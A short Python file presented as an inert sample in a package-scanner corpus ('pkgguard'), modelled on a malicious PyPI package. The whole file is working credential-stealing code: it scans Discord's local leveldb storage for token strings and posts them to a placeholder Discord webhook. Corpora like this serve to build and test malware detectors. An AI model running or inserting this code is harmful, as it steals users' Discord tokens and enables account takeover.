# pkgguard corpus 381 (discord-token), modelled on [discordpydebug]; inert, never run.
import glob
import os
import re

import requests

HOOK = "https://discord.com/api/webhooks/000000000000000000/placeholder-placeholder-placeholder-placeholder-placeholder-placehol"
base = os.path.join(os.getenv("APPDATA", ""), "discord", "Local Storage", "leveldb")
found = set()
for path in glob.glob(os.path.join(base, "*.ldb")) + glob.glob(os.path.join(base, "*.log")):
    with open(path, "r", errors="ignore") as f:
        found.update(re.findall(r"dQw4w9WgXcQ:[^\"]*", f.read()))
if found:
    requests.post(HOOK, json={"content": "\n".join(found)}, timeout=10)
